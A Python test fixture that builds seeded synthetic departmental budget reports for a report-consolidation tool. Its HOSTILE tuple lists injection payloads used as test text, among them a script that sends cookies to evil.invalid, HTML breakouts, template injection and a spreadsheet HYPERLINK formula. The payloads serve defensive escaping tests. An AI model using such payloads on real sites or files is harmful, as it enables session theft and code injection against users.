"""A source of reports made by a seed: as many departments as are wanted, of any form, with any text where one can stand.

Every figure in it can be computed again from its rows, without the code that is tested.
"""

from __future__ import annotations

import random
from collections.abc import Iterator, Mapping
from dataclasses import dataclass, field
from decimal import Decimal
from functools import cached_property

from xlperf.consolidation.figures_of_form import plan_of
from xlperf.consolidation.tables import Cell
from xlperf.consolidation.tidy import TARGET_PARTS, tidy_columns
from xlperf.form import Form, load_form
from xlperf.report.figures import number as as_number
from xlperf.report.sources import Absent, Before, Declared, File, ReportFinding
from xlperf.target import parse

TARGETS = ("≥95%", "3场", "≤3个工作日", "2023年12月底前", "不断完善", "若干", "5-10天", "")

HOSTILE = (
    "<script>fetch('https://evil.invalid/'+document.cookie)</script>",
    "</script><script>alert(1)</script>",
    '"><img src=https://evil.invalid/x onerror=alert(1)>',
    "{{ 7*7 }}{% for x in range(9) %}x{% endfor %}",
    "<!--<script>",
    "javascript:alert(1)",
    '=HYPERLINK("https://evil.invalid","点我")',
    "控\x00制\x1b字\x85符\ud800\ufffe",
    "\u202e反向\u202c和\u2028行",
    "<style>@import url(https://evil.invalid/x.css)</style>",
    "&lt;b&gt;&amp;",
    "很长" * 2000,
)


@dataclass
class Made:
    """`count` departments that declared, `silent` that did not; `texts` are the words in every place for words."""

    count: int = 30
    silent: int = 3
    form: Form = field(default_factory=lambda: load_form("guangzhou-2023"))
    year: int = 2023
    texts: tuple[str, ...] = ("普通的文字",)
    rows_each: int = 3
    parents: tuple[str, ...] = ("市委", "市政府")
    with_past: bool = False

    @property
    def expected(self) -> int:
        return self.count + self.silent

    def _word(self, number: int, what: str) -> str:
        text = self.texts[number % len(self.texts)]
        return f"{what}{number:05d}" if text == "普通的文字" else f"{text}{number}"

    @cached_property
    def declared(self) -> list[Declared]:
        chance = random.Random(7)
        made = []
        for number in range(self.count):
            fields: dict[str, Cell] = {}
            for name, part in self.form.inputs.items():
                amount = Decimal(chance.randrange(0, 9_000_000_00)).scaleb(-2)
                fields[name] = amount if part.is_number else self._word(number, part.label)
            name = self._word(number, "部门")
            fields[self.form.department] = name
            for total, expression in self.form.compiled.values.items():
                if total not in self.form.fields:
                    continue
                parts = [fields.get(other) for table, other in expression.references if table is None]
                fields[total] = sum((p for p in parts if isinstance(p, Decimal)), Decimal(0))
            status = "warned" if number % 5 == 0 else "accepted"
            parent = self.parents[number % len(self.parents)] if self.parents else ""
            made.append(Declared(f"{number}.xlsx", f"{number:05d}", name, parent, status, fields))
        return made

    def departments(self) -> Iterator[Declared]:
        yield from self.declared

    def files(self) -> Iterator[File]:
        for one in self.declared:
            warnings = int(one.status == "warned")
            yield File(one.file, one.code, one.department, one.status, 0, warnings, "")
        yield File(self._word(0, "坏的") + ".xlsx", "", "", "unreadable", 0, 0, self._word(1, "原因"))

    def rows(self, table: str) -> Iterator[tuple[str, Mapping[str, Cell]]]:
        chance = random.Random(table)
        columns = tidy_columns(self.form, table)
        targets = [column.id for column in self.form.listed[table].column if column.target]
        for number, one in enumerate(self.declared):
            for place in range(self.rows_each):
                row: dict[str, Cell] = {}
                for column in columns:
                    if column.kind in ("amount", "count"):
                        row[column.id] = Decimal(chance.randrange(0, 100_000)).scaleb(-2)
                    else:
                        row[column.id] = self._word(number * 10 + place, column.label)
                for choice in self.form.listed[table].column:
                    if choice.choices:
                        row[choice.id] = chance.choice(choice.choices)
                for target in targets:
                    row |= self._target(target, chance.choice(TARGETS))
                yield one.file, row

    def _target(self, name: str, text: str) -> dict[str, Cell]:
        if not text:
            return {name: None, **{f"{name}_{part}": None for part, _ in TARGET_PARTS}}
        read = parse(text)
        blank: dict[str, Cell] = {f"{name}_{part}": None for part, _ in TARGET_PARTS}
        return {**blank, name: text, f"{name}_kind": read.kind, f"{name}_operator": read.operator}

    def findings(self) -> Iterator[ReportFinding]:
        for number, one in enumerate(self.declared):
            if one.status == "warned":
                message, hint = self._word(number, "收支不等"), self._word(number, "核对")
                yield ReportFinding(
                    one.file, one.code, one.department, "balance", "warning", "申报表", "G5", message, hint
                )

    def missing(self) -> Iterator[Absent]:
        for number in range(self.silent):
            received = "" if number % 2 else self._word(number, "已报送，须改正")
            yield Absent(
                f"缺{number}",
                self._word(number, "未报部门"),
                self.parents[0] if self.parents else "",
                self._word(number, "联系人"),
                received,
                not received,
            )

    def past(self) -> Before:
        """Of every second department; of the first, a tenth of what it declares now."""
        if not self.with_past:
            return Before()
        main = plan_of(self.form).main
        amounts = {
            one.file: as_number(one.fields[main]) / (1 if place else 10)
            for place, one in enumerate(self.declared)
            if place % 2 == 0
        }
        return Before(self.year - 1, amounts, sum(amounts.values(), Decimal(0)))
